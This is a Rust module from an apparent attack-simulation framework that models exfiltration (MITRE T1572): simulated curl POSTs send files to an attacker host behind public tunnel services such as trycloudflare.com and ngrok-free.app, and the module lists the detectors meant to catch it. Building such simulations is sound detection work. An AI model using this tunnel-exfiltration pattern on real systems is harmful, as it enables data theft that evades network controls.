//! The attacker's own machine behind the name that a tunnel service gave it (T1572).

use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::CURL;
use crate::simulate::session::{Call, Session};
use crate::simulate::world::public;

/// Services whose users get a name below theirs.
const SERVICES: [&str; 3] = ["trycloudflare.com", "ngrok-free.app", "loca.lt"];

pub(super) static KIND: Kind = Kind {
    name: "tunnel-service",
    about: "files go to a machine behind a public tunnel service",
    technique: "T1572",
    channel: Channel::Https,
    found_by: &["foreign_tenant", "new_destination", "upload_size"],
    paces: Pace::OF_AN_ARCHIVE,
    roles: &Role::each_way(act),
    sessions: 1,
};

fn act(session: &mut Session, mission: &Mission) -> Attack {
    let service = session.dice.pick(&SERVICES);
    let host = public(&format!("{}.{service}", mission.handle));
    mission.send(session, (&host, &CURL), |_, bytes| vec![Call::post("/in", bytes, 2)])
}
